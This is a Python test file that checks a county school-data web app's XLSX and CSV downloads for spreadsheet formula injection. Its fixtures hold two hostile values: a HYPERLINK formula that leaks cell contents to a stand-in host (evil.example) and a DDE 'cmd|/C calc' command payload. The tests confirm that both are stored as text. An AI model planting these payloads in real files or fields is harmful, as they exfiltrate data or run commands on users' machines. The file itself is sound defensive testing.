"""No download carries a live formula (issue 11, defect 14).

A county names a school `=HYPERLINK(…)` (and a note starts with "@"); the change log audit.csv,
current-data.xlsx, report.xlsx and plan.xlsx are downloaded: no XLSX has a formula cell (no
<f> element anywhere in the workbook's XML), the name is a text cell holding exactly the name
(so current-data.xlsx reads back through the importer unchanged), and audit.csv writes the
formula-like texts with a leading apostrophe while numbers stay as they are.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from web_world import COUNTY, OTHER_COUNTY, WEB_USERS, YEAR, WebWorld, seed_store, web_dataset, web_settings

from junheng.data.dataset import Dataset
from junheng.data.importer import load_dataset
from junheng.spreadsheets import FORMULA_STARTS

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
EVIL_RENAMED = "@SUM(1+1)*cmd|' /C calc'!A0"


def formula_dataset() -> Dataset:
    """web_world's county with P1 named EVIL, failing R2 (so the plan has actions for it)."""
    base = web_dataset()
    schools = base.schools.copy()
    schools.loc[schools["school_id"] == "P1", "school_name"] = EVIL
    years = base.school_year.copy()
    years.loc[years["school_id"] == "P1", "backbone_teachers_primary"] = 0
    counties = pd.DataFrame([{"county_code": COUNTY, "county_name": "测试县", "city": "测试市", "province": "测试省"},
                             {"county_code": OTHER_COUNTY, "county_name": "另一县", "city": "测试市",
                              "province": "测试省"}])
    return Dataset.from_frames(source="tests", schools=schools, school_year=years, county_year=base.county_year,
                               quality=base.quality, counties=counties)


@pytest.fixture
def county(web_template, tmp_path):
    from junheng.store.db import Database

    database = Database(f"sqlite:///{tmp_path / 'junheng.db'}")
    database.migrate()
    seed_store(database, formula_dataset(), WEB_USERS)
    world = WebWorld(database, web_settings(database, tmp_path / "uploads"))
    client = world.login("county")
    # a rename through the form: the change log then holds the formula-like text as a value
    edited = client.post("/admin/schools/P2", {"school_name": EVIL_RENAMED, "school_type": "primary",
                                               "locale": "town", "ownership": "public"})
    assert edited.status_code == 303, edited.text[:500]
    yield client
    database.engine.dispose()


def formula_elements(content: bytes) -> list[str]:
    """The worksheets of an .xlsx that hold a formula (<f> element)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))]


def text_cells(content: bytes, wanted: str) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == wanted]


@pytest.mark.parametrize("download", [
    "/counties/{county}/current-data.xlsx",
    "/counties/{county}/report.xlsx?year={year}",
    "/counties/{county}/plan.xlsx?year={year}&mode=both&years=1",
])
def test_a_workbook_holds_the_name_as_text_and_no_formula(county, download):
    response = county.get(download.format(county=COUNTY, year=YEAR))
    assert response.status_code == 200, response.text[:500]
    assert formula_elements(response.content) == []
    cells = text_cells(response.content, EVIL)
    assert cells, "the school's name is in the workbook"
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)  # Excel keeps it text when the cell is edited


def test_current_data_reads_back_with_the_names_unchanged(county, tmp_path):
    response = county.get(f"/counties/{COUNTY}/current-data.xlsx")
    path = tmp_path / "current.xlsx"
    path.write_bytes(response.content)
    names = dict(load_dataset(path).schools[["school_id", "school_name"]].itertuples(index=False))
    assert names["P1"] == EVIL and names["P2"] == EVIL_RENAMED


def test_the_change_log_csv_writes_formula_like_texts_as_text(county):
    response = county.get(f"/counties/{COUNTY}/audit.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells  # the school-name column of P1's entries
    assert "'" + EVIL_RENAMED in cells  # the new value of P2's rename
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert all(c.lstrip("+-").replace(".", "", 1).isdigit() for c in dangerous), dangerous  # only plain numbers
